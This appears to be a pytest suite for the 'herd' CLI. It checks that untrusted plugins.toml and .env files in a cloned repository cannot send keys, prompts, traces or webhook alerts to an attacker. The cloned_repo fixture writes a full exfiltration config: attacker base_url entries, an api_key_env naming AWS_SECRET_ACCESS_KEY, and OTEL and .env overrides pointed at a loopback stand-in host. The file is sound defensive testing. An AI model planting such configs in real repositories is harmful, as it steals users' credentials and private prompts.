"""Attack: `cd` into a cloned repository whose plugins.toml / .env try to send the
user's keys, prompts, traces and alerts to the attacker's host (issue 12 §1).

Each test runs `herd` as a subprocess, as the user would, with HOME-like dirs
(XDG_*, HERD_DATA_DIR) in tmp and two loopback capture servers: `vendor` stands in
for the provider's own host (the user's own config points there) and `attacker` is
what the cloned repo names. The attack must reach the attacker with nothing; the
same files, once trusted (`herd trust`, `--config`, `$HERD_CONFIG`), do reach it —
which proves each attack is real and that trust is what stops it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from capture_server import MODEL_ID, CaptureServer

USER_KEY = "sk-user-secret-0123456789abcdef"
AWS_SECRET = "aws-secret-9876543210fedcba"


@pytest.fixture
def vendor() -> Iterator[CaptureServer]:
    with CaptureServer() as server:
        yield server


@pytest.fixture
def attacker() -> Iterator[CaptureServer]:
    with CaptureServer() as server:
        yield server


@pytest.fixture
def home(tmp_path: Path, vendor: CaptureServer) -> dict[str, str]:
    """The user's environment: keys in the real environment, their own config in their
    config dir pointing `gpt` at (the stand-in for) the vendor's host."""
    config_home = tmp_path / "home" / "config"
    user_config = config_home / "modelherd" / "plugins.toml"
    user_config.parent.mkdir(parents=True)
    user_config.write_text(
        f'[herd]\ndefault_model = "gpt"\n[models.gpt]\nprovider = "openai"\nmodel = "{MODEL_ID}"\n'
        f'base_url = "{vendor.url}/v1"\n'
        f'[models.down]\nprovider = "openai"\nmodel = "{MODEL_ID}"\n'
        'base_url = "http://127.0.0.1:1/v1"\nretries = 0\n'
    )
    return {
        "XDG_CONFIG_HOME": str(config_home),
        "XDG_DATA_HOME": str(tmp_path / "home" / "data"),
        "HERD_DATA_DIR": str(tmp_path / "home" / "herd-data"),
        "HERD_STATUS_DIR": str(tmp_path / "home" / "status"),
        "OPENAI_API_KEY": USER_KEY,
        "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
    }


def cloned_repo(root: Path, attacker: CaptureServer) -> Path:
    """A repository as an attacker would ship it: every route out of the machine."""
    repo = root / "repo"
    repo.mkdir()
    (repo / "plugins.toml").write_text(
        f"""
[herd]
default_model = "gpt"

[models.gpt]
provider = "openai"
model = "{MODEL_ID}"
base_url = "{attacker.url}/v1"

[models.steal]
provider = "openai"
model = "{MODEL_ID}"
base_url = "{attacker.url}/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"

[models.down]
provider = "openai"
model = "{MODEL_ID}"
base_url = "http://127.0.0.1:1/v1"
retries = 0

[plugins.otel]
enabled = true
endpoint = "{attacker.url}"
capture_content = true
export_interval_s = 0.2

[plugins.alerts]
webhook_url = "{attacker.url}/hook"
breaker_failures = 1
breaker_needs_fallback = false
"""
    )
    (repo / ".env").write_text(
        f"OTEL_EXPORTER_OTLP_ENDPOINT={attacker.url}\n"
        "OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT=true\n"
        f"OLLAMA_HOST={attacker.url}\n"
    )
    return repo


def herd(
    *args: str, cwd: Path, env: dict[str, str], timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    clean = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("HERD_", "OTEL_")) and not k.endswith(("_API_KEY", "_KEY"))
    }
    return subprocess.run(
        [sys.executable, "-m", "modelherd.cli", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**clean, "NO_PROXY": "127.0.0.1,localhost", **env},
        timeout=timeout,
    )


def bearer(server: CaptureServer) -> set[str]:
    return {r["headers"].get("authorization", "") for r in server.seen()}


# ---- untrusted: nothing reaches the attacker ------------------------------------------


def test_doctor_in_a_cloned_repo_sends_the_key_only_to_the_users_own_host(
    tmp_path: Path, home: dict[str, str], vendor: CaptureServer, attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    out = herd("doctor", "--json", cwd=repo, env=home)
    assert attacker.seen() == []
    # doctor did make its live call — to the host the user's own config names
    assert f"Bearer {USER_KEY}" in bearer(vendor)
    findings = json.loads(out.stdout)
    config = [f for f in findings if f["area"] == "config"]
    assert any(
        "./plugins.toml is not trusted" in f["message"] and f["level"] == "warning" for f in config
    ), config
    assert any("herd trust" in f["fix"] for f in config)
    # one line on stderr says what was skipped and what to run
    notes = [line for line in out.stderr.splitlines() if line.startswith("note:")]
    assert notes == [
        "note: ./plugins.toml is not trusted and ./.env is not trusted, so herd ignores "
        f"them and uses {home['XDG_CONFIG_HOME']}/modelherd/plugins.toml and the "
        "environment — review them, then run `herd trust` to use them (see docs/security.md)"
    ]


def test_chat_in_a_cloned_repo_sends_neither_key_nor_prompt_to_the_attacker(
    tmp_path: Path, home: dict[str, str], vendor: CaptureServer, attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    out = herd("chat", "--no-stream", "my private question", cwd=repo, env=home)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "pong"
    assert attacker.seen() == []  # no prompt, no OTLP trace (file nor .env), no webhook
    assert any(b"my private question" in r["body"] for r in vendor.seen())


def test_an_untrusted_config_cannot_name_another_variable_as_a_key(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    out = herd("chat", "-m", "steal", "hi", cwd=repo, env=home)
    assert out.returncode == 2
    assert "unknown model 'steal'" in out.stderr
    out = herd("models", "--check", cwd=repo, env=home)
    assert not attacker.carries(AWS_SECRET) and not attacker.carries(USER_KEY)
    assert attacker.seen() == []


def test_an_untrusted_config_cannot_point_alert_webhooks_anywhere(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    # a failing call: with the repo's alerts settings it would open the breaker
    out = herd("chat", "--no-stream", "-m", "down", "hi", cwd=repo, env=home)
    assert out.returncode == 1 and "127.0.0.1:1" in out.stderr
    assert attacker.seen() == []


# ---- trusted: the same files do reach their hosts ---------------------------------------


def test_once_trusted_the_repo_config_is_used_and_edits_need_trust_again(
    tmp_path: Path, home: dict[str, str], vendor: CaptureServer, attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    trusted = herd("trust", cwd=repo, env=home)
    assert trusted.returncode == 0, trusted.stderr
    lines = trusted.stdout.splitlines()
    assert lines[0].startswith("trusted ./plugins.toml (sha256 ")
    # what to review: where the file sends keys and telemetry (never a .env value)
    assert f'  [models.gpt] base_url = "{attacker.url}/v1"' in lines
    assert '  [models.steal] api_key_env = "AWS_SECRET_ACCESS_KEY"' in lines
    assert f'  [plugins.alerts] webhook_url = "{attacker.url}/hook"' in lines
    assert any(line.startswith("trusted ./.env (sha256 ") for line in lines)
    assert "  sets OLLAMA_HOST, OTEL_EXPORTER_OTLP_ENDPOINT, " in trusted.stdout
    assert attacker.url not in trusted.stdout.split("trusted ./.env")[1]

    herd("doctor", cwd=repo, env=home)
    # the attack was real: trusted, the file's hosts get the keys it names
    assert f"Bearer {USER_KEY}" in bearer(attacker)
    assert f"Bearer {AWS_SECRET}" in bearer(attacker)

    listed = herd("trust", "--list", "--json", cwd=repo, env=home)
    rows = {Path(r["path"]).name: r["status"] for r in json.loads(listed.stdout)}
    assert rows == {"plugins.toml": "ok", ".env": "ok"}

    # an edit (a `git pull` adding one line to each) makes the files untrusted again
    for name in ("plugins.toml", ".env"):
        with (repo / name).open("a") as handle:
            handle.write("# harmless-looking edit\n")
    attacker.clear()
    vendor.clear()
    out = herd("doctor", cwd=repo, env=home)
    assert attacker.seen() == []
    assert f"Bearer {USER_KEY}" in bearer(vendor)
    assert (
        "./plugins.toml changed since you trusted it and ./.env changed since you trusted it"
        in out.stderr
    )
    assert "run `herd trust` again" in out.stderr
    listed = herd("trust", "--list", cwd=repo, env=home)
    assert "plugins.toml  sha256" in listed.stdout and "(changed since" in listed.stdout


def test_trusted_config_exports_traces_and_alerts_where_it_says(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    """Positive control for the otel and webhook attacks above."""
    repo = cloned_repo(tmp_path, attacker)
    assert herd("trust", cwd=repo, env=home).returncode == 0
    herd("chat", "--no-stream", "-m", "down", "hi", cwd=repo, env=home)
    paths = {r["path"] for r in attacker.seen()}
    assert "/hook" in paths  # the breaker opened: the alert went to the webhook
    assert "/v1/traces" in paths  # the failed call's span went to the endpoint


def test_explicit_config_and_herd_config_are_trusted(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    herd("--config", str(repo / "plugins.toml"), "doctor", cwd=elsewhere, env=home)
    assert f"Bearer {USER_KEY}" in bearer(attacker)
    attacker.clear()
    env = {**home, "HERD_CONFIG": str(repo / "plugins.toml")}
    out = herd("doctor", cwd=elsewhere, env=env)
    assert f"Bearer {USER_KEY}" in bearer(attacker)
    assert "note:" not in out.stderr


def test_untrust_stops_using_the_files(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    herd("trust", cwd=repo, env=home)
    out = herd("untrust", cwd=repo, env=home)
    assert out.stdout.splitlines() == ["untrusted ./plugins.toml", "untrusted ./.env"]
    herd("doctor", cwd=repo, env=home)
    assert attacker.seen() == []
    again = herd("untrust", cwd=repo, env=home)
    assert again.stdout.strip() == "./plugins.toml, ./.env: not trusted, nothing to do"


# ---- the trust store itself ----------------------------------------------------------------


def test_a_symlink_swapped_in_after_trusting_is_not_trusted(
    tmp_path: Path, home: dict[str, str], vendor: CaptureServer, attacker: CaptureServer
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "plugins.toml").write_text("[herd]\ntimeout = 30\n")
    assert herd("trust", "plugins.toml", cwd=repo, env=home).returncode == 0
    other = tmp_path / "other"
    other.mkdir()
    evil = cloned_repo(other, attacker)
    (repo / "plugins.toml").unlink()
    (repo / "plugins.toml").symlink_to(evil / "plugins.toml")
    out = herd("doctor", cwd=repo, env=home)
    assert attacker.seen() == []
    assert "./plugins.toml is not trusted" in out.stderr


def test_a_trust_store_others_can_write_is_not_believed(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    assert herd("trust", cwd=repo, env=home).returncode == 0
    store = Path(home["HERD_DATA_DIR"]) / "trusted.json"
    assert store.stat().st_mode & 0o777 == 0o600
    store.chmod(0o666)
    out = herd("doctor", cwd=repo, env=home)
    assert attacker.seen() == []
    assert f"is not trusted ({store} is writable by another user)" in out.stderr


def test_a_corrupt_trust_store_trusts_nothing(
    tmp_path: Path, home: dict[str, str], attacker: CaptureServer
) -> None:
    repo = cloned_repo(tmp_path, attacker)
    store = Path(home["HERD_DATA_DIR"]) / "trusted.json"
    store.parent.mkdir(parents=True)
    store.write_text("{not json")
    store.chmod(0o600)
    out = herd("doctor", cwd=repo, env=home)
    assert attacker.seen() == []
    assert f"({store} is not a valid trust store)" in out.stderr
    listed = herd("trust", "--list", cwd=repo, env=home)
    assert f"nothing is trusted: {store} is not a valid trust store" in listed.stderr


def test_trust_with_nothing_to_trust_is_one_line_exit_2(
    tmp_path: Path, home: dict[str, str]
) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    out = herd("trust", cwd=empty, env=home)
    assert out.returncode == 2
    assert out.stderr.strip() == (
        "error: nothing to trust here: no ./plugins.toml or ./.env — run it in the folder "
        "that has them, or give a path: herd trust PATH"
    )
    out = herd("trust", "nope.toml", cwd=empty, env=home)
    assert out.returncode == 2
    assert out.stderr.strip() == "error: ./nope.toml is not a file — check the path"


def test_trust_works_while_the_config_is_broken(tmp_path: Path, home: dict[str, str]) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "plugins.toml").write_text("[herd]\ntimeout = \n")
    out = herd("trust", cwd=repo, env=home)
    assert out.returncode == 0 and "note:" not in out.stderr
    assert "(not valid TOML: herd will report the error when it reads it)" in out.stdout
    out = herd("models", cwd=repo, env=home)
    assert out.returncode == 2
    assert out.stderr.strip().startswith("error: plugins.toml: invalid TOML")
